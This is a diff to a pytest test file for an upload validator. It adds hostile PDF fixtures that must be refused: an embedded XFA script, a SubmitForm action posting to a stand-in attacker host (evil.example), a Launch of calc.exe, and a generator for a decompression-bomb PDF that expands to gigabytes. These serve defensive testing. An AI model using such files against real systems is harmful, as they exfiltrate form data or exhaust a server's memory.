@@ -1,6 +1,8 @@
 """What an upload really is: every kind of wrong file is refused with words that say how to mend it."""
 
 import io
+import resource
+import zlib
 
 import pikepdf
 import pytest
@@ -32,6 +34,41 @@ def launch(document):
     document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
 
 
+def own_form_language(document):
+    form = document.make_stream(b"<xdp><script>app.alert(1)</script></xdp>")
+    document.Root.AcroForm = pikepdf.Dictionary(XFA=form, Fields=[])
+
+
+def sends(document):
+    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/")
+
+
+def unfolds(megabytes):
+    """A PDF of some hundred kilobytes, of which one object stream unfolds to so many megabytes of spaces."""
+    packer = zlib.compressobj(9)
+    data = packer.compress(b"2 0 null ")
+    for _ in range(megabytes):
+        data += packer.compress(b" " * 2**20)
+    data += packer.flush()
+    bodies = {
+        1: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(data), data),
+        3: b"<</Type/Catalog/Pages 4 0 R/X 2 0 R>>",
+        4: b"<</Type/Pages/Kids[5 0 R]/Count 1>>",
+        5: b"<</Type/Page/Parent 4 0 R/MediaBox[0 0 9 9]>>",
+    }
+    out, places = b"%PDF-1.5\n", {}
+    for number, body in bodies.items():
+        places[number] = len(out)
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    places[6] = len(out)
+    kinds = {0: (0, 0, 65535), 2: (2, 1, 0)} | {number: (1, place, 0) for number, place in places.items()}
+    rows = b"".join(
+        kind.to_bytes() + place.to_bytes(4) + rest.to_bytes(2) for _number, (kind, place, rest) in sorted(kinds.items())
+    )
+    table = b"<</Type/XRef/Size 7/W[1 4 2]/Root 3 0 R/Length %d>>" % len(rows)
+    return out + b"6 0 obj\n%sstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % (table, rows, places[6])
+
+
 def bomb():
     out = io.BytesIO()
     Image.new("1", (12000, 12000)).save(out, "PNG")
@@ -44,6 +81,8 @@ WRONG = [
     ("card.pdf", pdf(**LOCKED), "ID_CARD", "รหัสผ่าน"),
     ("card.pdf", pdf(script), "ID_CARD", "โปรแกรม"),
     ("card.pdf", pdf(launch), "ID_CARD", "โปรแกรม"),
+    ("card.pdf", pdf(own_form_language), "ID_CARD", "โปรแกรม"),
+    ("card.pdf", pdf(sends), "ID_CARD", "โปรแกรม"),
     ("card.pdf", b"%PDF-1.7 and nothing else", "ID_CARD", "เสียหรือไม่ครบ"),
     ("card.jpg", picture().read()[:900], "ID_CARD", "เสียหรือไม่ครบ"),
     ("card.png", bomb(), "ID_CARD", "ละเอียดเกินไป"),
@@ -58,6 +97,14 @@ def test_a_wrong_file_is_explained(name, content, kind, sentence):
     with translation.override("th"), pytest.raises(ValidationError) as told:
         check_file(SimpleUploadedFile(name, content), kind)
     assert sentence in " ".join(told.value.messages)
+
+
+@pytest.mark.slow
+def test_a_small_pdf_that_unfolds_to_gigabytes_does_not_fill_our_memory():
+    content, before = unfolds(1500), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    with pytest.raises(ValidationError):
+        check_file(SimpleUploadedFile("card.pdf", content), "ID_CARD")
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100 * 1024
 
 
 def test_a_photograph_loses_its_metadata_and_stays_upright():
